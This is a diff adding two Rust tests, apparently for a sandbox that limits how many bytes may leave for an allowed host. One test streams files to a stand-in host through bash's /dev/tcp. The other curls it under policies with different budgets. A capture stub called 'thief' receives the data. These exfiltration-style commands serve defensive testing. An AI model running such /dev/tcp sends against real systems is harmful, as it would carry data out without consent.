@@ -3,6 +3,7 @@
 use outgate_harness::audit::{records, text};
 use outgate_harness::{Identity, Lab, Sandbox, lab_tests};
 
+use crate::streams::{HANDSHAKE, frame};
 use crate::{bash, thief};
 
 /// A sandbox whose rule for the thief's host has this budget.
@@ -56,6 +57,43 @@ lab_tests! {
         let sent = thief.take();
         assert!(sent.len() <= (1 << 20) + 65_536, "{}", sent.len());
         assert!(outcome.stderr.contains("budget"), "{outcome}");
+    }
+
+    fn messages_of_a_websocket_are_counted(lab) {
+        let thief = thief();
+        let given = lab.folder("given", Identity::Own);
+        std::fs::write(given.join("handshake"), HANDSHAKE).expect("a file");
+        let message = frame(0x82, &[b'a'; 200]);
+        std::fs::write(given.join("message"), message).expect("a file");
+        let script = format!(
+            "exec 3<>/dev/tcp/drop.example/8099; cat {0}/handshake >&3; sleep 0.3; for n in 1 2 3 4 5 6 7 8 9; do cat {0}/message >&3; sleep 0.1; done",
+            given.display(),
+        );
+        let sandbox = allowed(lab, "1K").option("-r", &given.to_string_lossy());
+        let outcome = sandbox.run(&bash(&script));
+        let sent = thief.take();
+        let messages = sent.iter().filter(|byte| **byte == b'a').count() / 200;
+        assert!((1..=4).contains(&messages), "{messages} arrived: {outcome}");
+        assert!(sent.len() <= 1024 + 64, "{}", sent.len());
+        assert!(outcome.stderr.contains("raise `budget`"), "{outcome}");
+    }
+
+    fn tls_that_passes_unopened_is_counted(lab) {
+        let thief = thief();
+        let given = lab.folder("given", Identity::Own);
+        let policy = "[[allow]]\nrule = \"tls://drop.example:8099\"\nbudget = \"BUDGET\"\n";
+        for (budget, arrives) in [("100B", false), ("64K", true)] {
+            let file = given.join("tls.toml");
+            std::fs::write(&file, policy.replace("BUDGET", budget)).expect("a policy");
+            let outcome = Sandbox::plain(lab, Identity::Own)
+                .option("-P", "base")
+                .option("-p", &file.to_string_lossy())
+                .pin("drop.example:8099=127.0.0.1:8099")
+                .run(&bash("curl -sS --max-time 2 https://drop.example:8099/"));
+            let sent = thief.take();
+            assert_eq!(!sent.is_empty(), arrives, "{budget}: {} bytes, {outcome}", sent.len());
+            assert_eq!(outcome.stderr.contains("raise `budget`"), !arrives, "{outcome}");
+        }
     }
 
     fn what_fits_arrives(lab) {
